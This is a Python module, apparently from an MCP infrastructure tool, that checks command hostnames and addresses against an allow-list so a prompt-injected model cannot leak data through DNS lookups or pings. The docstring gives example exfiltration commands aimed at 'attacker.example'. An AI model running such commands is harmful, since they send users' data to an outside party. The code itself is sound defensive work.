"""Where the read tier may send anything: the policy's `network.destinations`.

A name that a command resolves, and an address it sends a packet, a query or a connection
to, is chosen by the client; a prompt-injected model can encode data in it
(`getent hosts <data>.attacker.example`, `dig @attacker ...`, `ping <address>`). So every
operand and option that names a remote endpoint or a lookup name has the value kind
`destination`: a host name listed here (exactly, case-insensitively, one trailing dot
ignored; never a suffix or a pattern), an address inside a listed address or prefix, or the
host's own name (uname's nodename and its first label). Everything else is refused with
`destination_not_allowed`.

The list is data: the role writes the inventory's host names and `ansible_host` addresses
plus the site's `mcp_infra_network_destinations`; the default policy lists loopback.
"""

import ipaddress
import os
import re

from mcp_infra_target.core.refusal import Refusal

MAX_ENTRIES = 65536
_LABEL = r"[a-z0-9_]([a-z0-9_-]{0,61}[a-z0-9_])?"
NAME = re.compile(rf"(?=.{{1,253}}$){_LABEL}(\.{_LABEL})*")
# What inet_aton(3) would read as an address although ipaddress does not: 127.1, 0x7f.0.0.1,
# 2130706433. Refused as names, so a listed name can never be another address in disguise.
_INET_ATON = re.compile(r"(0x[0-9a-f]*|[0-9]+)(\.(0x[0-9a-f]*|[0-9]+)){0,3}\.?")


def _name(value):
    """The normal form of a host name (lower case, no trailing dot), or None."""
    name = value.lower().removesuffix(".")
    if not NAME.fullmatch(name) or _INET_ATON.fullmatch(name):
        return None
    return name


def _address(value):
    """An ip_address for a plain, canonical-looking address (no scope), or None."""
    if "%" in value:
        return None
    try:
        return ipaddress.ip_address(value)
    except ValueError:
        return None


class Destinations:
    """The compiled list: names, and networks by IP version."""

    def __init__(self, entries, where, error):
        if len(entries) > MAX_ENTRIES:
            raise error(f"{where}: more than {MAX_ENTRIES} entries")
        self.names = set()
        self.networks = []
        for entry in entries:
            if not isinstance(entry, str) or not entry:
                raise error(f"{where}: entries are host names, addresses or prefixes")
            if ":" in entry or "/" in entry or _INET_ATON.fullmatch(entry.lower()):
                try:
                    self.networks.append(ipaddress.ip_network(entry, strict=False))
                except ValueError:
                    raise error(f"{where}: {entry!r} is not an address or prefix")
                continue
            name = _name(entry)
            if name is None:
                raise error(f"{where}: {entry!r} is not a host name")
            self.names.add(name)

    def own_names(self):
        node = os.uname().nodename.lower().rstrip(".")
        return {node, node.split(".")[0]} if node else set()

    def allows(self, value):
        address = _address(value)
        if address is not None:
            mapped = getattr(address, "ipv4_mapped", None)
            candidates = [address] + ([mapped] if mapped is not None else [])
            return any(a in network for a in candidates for network in self.networks
                       if network.version == a.version)
        name = _name(value)
        return name is not None and (name in self.names or name in self.own_names())


def checker(destinations: "Destinations"):
    def check(value, rule):
        if _address(value) is None and _name(value) is None:
            raise Refusal("bad_value", rule, f"{value[:200]!r} is not a host name or address "
                          "(servers and resolvers cannot be chosen)")
        if not destinations.allows(value):
            raise Refusal("destination_not_allowed", rule,
                          f"{value[:200]!r} is not a destination this host's policy lists "
                          "(network.destinations: the inventory's hosts, loopback and the "
                          "site's additions; resolver and server selection are not offered)")
        return value
    return check
